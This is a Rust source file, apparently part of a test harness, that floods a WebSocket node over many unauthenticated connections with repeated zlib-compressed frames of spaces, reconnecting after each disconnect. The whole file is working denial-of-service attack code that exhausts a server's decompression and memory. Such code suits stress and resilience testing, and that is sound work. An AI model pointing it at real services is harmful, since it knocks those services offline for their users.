//! The flooding clients.

use std::net::SocketAddr;

use anyhow::Result;
use gateway_harness::{deflate, frame};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
};

/// Inflated size of a packet: the largest message that a node accepts.
const BYTES: usize = 65_536;
/// Packets per write.
const PACKETS: usize = 45;

/// Floods the node over `strangers` connections until the process is killed.
pub(super) fn attack(address: SocketAddr, strangers: u32) -> Result<()> {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    let packets = frame(0x82, &deflate(&vec![b' '; BYTES])).repeat(PACKETS);
    let strangers = (0..strangers).map(|_| async {
        loop {
            // The node disconnects clients that do not identify; each is replaced by a new one.
            let _ = flood(address, &packets).await;
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
    });
    runtime.block_on(futures_util::future::join_all(strangers));
    Ok(())
}

async fn flood(address: SocketAddr, packets: &[u8]) -> Result<()> {
    let mut stream = TcpStream::connect(address).await?;
    let head = "GET /?v=1&compression=zlib HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
                Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n";
    stream.write_all(head.as_bytes()).await?;
    let (mut reader, mut writer) = stream.split();
    let reading = async {
        let mut buffer = [0; 4096];
        while reader.read(&mut buffer).await? > 0 {}
        anyhow::Ok(())
    };
    let writing = async {
        loop {
            writer.write_all(packets).await?;
        }
    };
    tokio::select! {
        read = reading => read,
        written = writing => written,
    }
}
